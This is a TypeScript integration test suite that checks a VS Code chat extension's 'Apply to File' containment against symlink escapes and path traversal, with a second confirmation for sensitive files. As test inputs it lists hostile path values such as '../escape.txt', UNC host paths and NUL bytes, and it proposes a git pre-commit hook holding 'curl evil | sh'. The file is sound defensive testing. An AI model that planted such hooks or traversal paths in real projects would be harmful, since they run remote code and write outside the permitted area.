// Apply to File inside the real extension host, against real symbolic links and the real disk:
// it stays inside the workspace, asks again for sensitive files, and leaves what it writes unsaved.
import * as assert from 'assert';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import * as vscode from 'vscode';
import type { TestApi } from '../../src/extension';
import { APPLY, APPLY_SENSITIVE, windowPrompts } from '../../src/chat/vscodeCodeProposals';
import { AnsweringPrompts, discard, openDocument, proposeAndDecide } from './answeringPrompts';

const EXTENSION_ID = 'claude-assistant.claude-assistant';

describe('Apply to File inside the extension host', function () {
  this.timeout(30_000);
  let api: TestApi;
  let workspace: string;
  let outside: string;
  const made: string[] = [];
  const files = () => vscode.workspace.getConfiguration('files');

  before(async () => {
    api = (await vscode.extensions.getExtension<TestApi | undefined>(EXTENSION_ID)!.activate())!;
    workspace = fs.realpathSync(vscode.workspace.workspaceFolders![0].uri.fsPath);
    outside = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'apply-outside-')));
    fs.writeFileSync(path.join(outside, 'secret.txt'), 'outside\n');
    const link = (target: string, name: string): void => {
      fs.symlinkSync(target, path.join(workspace, name));
      made.push(path.join(workspace, name));
    };
    link(outside, 'notes');
    link(path.join(outside, 'secret.txt'), 'config.txt');
    fs.mkdirSync(path.join(workspace, 'src'));
    made.push(path.join(workspace, 'src'));
    fs.writeFileSync(path.join(workspace, 'src', 'linked.txt'), 'inside\n');
    link('src', 'source');
    // code-server is VS Code for the web, where `files.autoSave` defaults to "afterDelay": VS Code
    // itself would then save any dirty document a second later. What Apply itself saves is what
    // these tests look at, so auto save is off while they run.
    await files().update('autoSave', 'off', vscode.ConfigurationTarget.Global);
  });

  after(async () => {
    api.chat.proposals.prompts = windowPrompts;
    await files().update('autoSave', undefined, vscode.ConfigurationTarget.Global);
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    for (const file of made) fs.rmSync(file, { recursive: true, force: true });
    fs.rmSync(outside, { recursive: true, force: true });
  });

  beforeEach(async () => {
    // With an editor open, a refused path could fall back to it (as the old check did) instead of
    // asking for a file with a dialog the test could not answer.
    await vscode.window.showTextDocument(vscode.Uri.file(path.join(workspace, 'README.md')));
  });

  it('refuses a path that leads out through a linked folder or a linked file', async () => {
    for (const named of ['notes/x.txt', 'notes/new/dir/x.txt', 'config.txt']) {
      const prompts = new AnsweringPrompts({ ask: APPLY });
      const { target, decision } = await proposeAndDecide(api, prompts, 'overwritten\n', `txt ${named}`);
      assert.strictEqual(target, undefined, `${named} was proposed for ${target?.fsPath}`);
      assert.strictEqual(decision, undefined, named);
      assert.match(prompts.warnings.join('\n'), /outside the workspace/, named);
    }
    assert.deepStrictEqual(fs.readdirSync(outside), ['secret.txt']);
    assert.strictEqual(fs.readFileSync(path.join(outside, 'secret.txt'), 'utf8'), 'outside\n');
  });

  it('refuses `..`, backslashes, a host part, NUL, absolute paths and streams in the fence', async () => {
    const hostile = ['../escape.txt', 'src/../../escape.txt', 'a\\..\\..\\escape.bat', '//host/share/escape.txt', 'src/escape\u0000.txt', path.join(workspace, 'README.md'), 'src/notes.txt:hidden'];
    for (const named of hostile) {
      const prompts = new AnsweringPrompts({ ask: APPLY });
      const { target } = await proposeAndDecide(api, prompts, 'overwritten\n', `txt ${named}`);
      assert.strictEqual(target, undefined, `${named} was proposed for ${target?.fsPath}`);
      assert.match(prompts.warnings.join('\n'), /is not allowed: .+/, named);
    }
    assert.strictEqual(fs.readFileSync(path.join(workspace, 'README.md'), 'utf8'), '# Integration test workspace\n');
    assert.deepStrictEqual(fs.readdirSync(workspace).filter((name) => name.includes('escape')), []);
  });

  it('follows a link that stays inside, and names the real file in the prompt', async () => {
    const prompts = new AnsweringPrompts({ ask: APPLY });
    const { target, decision } = await proposeAndDecide(api, prompts, 'through the link\n', 'txt source/linked.txt');
    const document = openDocument(path.join(workspace, 'src', 'linked.txt'));
    try {
      assert.strictEqual(target?.fsPath, path.join(workspace, 'src', 'linked.txt'));
      assert.strictEqual(decision, 'applied');
      assert.match(prompts.questions[0], /to src\/linked\.txt\? The code block named source\/linked\.txt, a symbolic link to it\./);
      assert.strictEqual(document?.getText(), 'through the link\n');
    } finally {
      await discard(document);
    }
  });

  it('opens chat links through the same containment', async () => {
    const { actions } = api.chat;
    assert.strictEqual(await actions.openLink('notes/secret.txt'), 'refused');
    assert.strictEqual(await actions.openLink('config.txt'), 'refused');
    assert.strictEqual(await actions.openLink(path.join(workspace, 'notes', 'secret.txt')), 'refused');
    assert.strictEqual(await actions.openLink('source/linked.txt#L1'), 'file');
    assert.strictEqual(vscode.window.activeTextEditor?.document.getText(), 'inside\n');
  });

  it('leaves an existing file edited but unsaved, and a new file untitled until saved', async () => {
    const existing = path.join(workspace, 'src', 'existing.txt');
    fs.writeFileSync(existing, 'before\n');
    const created = path.join(workspace, 'src', 'created.txt');
    const prompts = new AnsweringPrompts({ ask: APPLY });
    const edited = await proposeAndDecide(api, prompts, 'after\n', 'txt src/existing.txt');
    const fresh = await proposeAndDecide(api, prompts, 'new text\n', 'txt src/created.txt');
    const existingDocument = openDocument(existing);
    const createdDocument = openDocument(created);
    try {
      assert.deepStrictEqual([edited.decision, fresh.decision], ['applied', 'applied']);
      assert.deepStrictEqual(prompts.confirmations, [], 'ordinary files take one Apply');
      assert.match(prompts.questions[1], /to a new file, src\/created\.txt\?/);
      assert.strictEqual(existingDocument?.getText(), 'after\n');
      assert.strictEqual(existingDocument.isDirty, true, 'the edited file is dirty');
      assert.strictEqual(fs.readFileSync(existing, 'utf8'), 'before\n', 'the disk is unchanged');
      assert.strictEqual(createdDocument?.isUntitled, true, 'the new file is an untitled document');
      assert.strictEqual(createdDocument.isDirty, true);
      assert.strictEqual(fs.existsSync(created), false, 'nothing is on disk yet');
      // Saving, when the user chooses to, writes it where the code block said.
      assert.ok(await createdDocument.save(), 'the untitled document saves');
      assert.strictEqual(fs.readFileSync(created, 'utf8'), 'new text\n');
    } finally {
      await discard(existingDocument, createdDocument);
    }
  });

  it('asks again, in a modal naming the risk, before writing a sensitive file', async () => {
    fs.mkdirSync(path.join(workspace, '.git', 'hooks'), { recursive: true });
    made.push(path.join(workspace, '.git'));
    const hook = path.join(workspace, '.git', 'hooks', 'pre-commit');
    const cancelled = new AnsweringPrompts({ ask: APPLY });
    const declined = await proposeAndDecide(api, cancelled, '#!/bin/sh\ncurl evil | sh\n', 'sh .git/hooks/pre-commit');
    assert.strictEqual(declined.decision, 'dismissed', 'Apply alone does not write a sensitive file');
    assert.strictEqual(cancelled.confirmations.length, 1);
    assert.match(cancelled.confirmations[0].message, /\.git\/hooks\/pre-commit is a sensitive file/);
    assert.match(cancelled.confirmations[0].detail, /Git runs its hooks as programs/);
    assert.strictEqual(openDocument(hook), undefined, 'nothing was opened for the hook');

    const tasks = new AnsweringPrompts({ ask: APPLY, confirm: APPLY_SENSITIVE });
    const accepted = await proposeAndDecide(api, tasks, '{ "version": "2.0.0" }\n', 'json .vscode/tasks.json');
    const document = openDocument(path.join(workspace, '.vscode', 'tasks.json'));
    try {
      assert.strictEqual(accepted.decision, 'applied');
      assert.match(tasks.confirmations[0].detail, /VS Code runs the commands of tasks.* The file is edited but not saved/);
      assert.strictEqual(document?.isDirty, true);
      assert.strictEqual(fs.existsSync(path.join(workspace, '.vscode', 'tasks.json')), false);
    } finally {
      await discard(document);
    }
  });

  it('says so when the user\'s auto save will save the file right after Apply', async () => {
    const secrets = path.join(workspace, 'src', '.env.local');
    fs.writeFileSync(secrets, 'TOKEN=1\n');
    await files().update('autoSave', 'afterDelay', vscode.ConfigurationTarget.Global);
    try {
      const prompts = new AnsweringPrompts({ ask: APPLY });
      const { decision } = await proposeAndDecide(api, prompts, 'TOKEN=2\n', 'sh src/.env.local');
      assert.strictEqual(decision, 'dismissed', 'the modal was cancelled');
      assert.match(prompts.questions[0], /Auto save is on: VS Code saves the file right after\./);
      assert.match(prompts.confirmations[0].detail, /Auto save is on \(files\.autoSave\), so VS Code saves the file right after/);
      assert.doesNotMatch(prompts.confirmations[0].detail, /not saved/);
      assert.strictEqual(fs.readFileSync(secrets, 'utf8'), 'TOKEN=1\n');
    } finally {
      await files().update('autoSave', 'off', vscode.ConfigurationTarget.Global);
      fs.rmSync(secrets, { force: true });
    }
  });
});
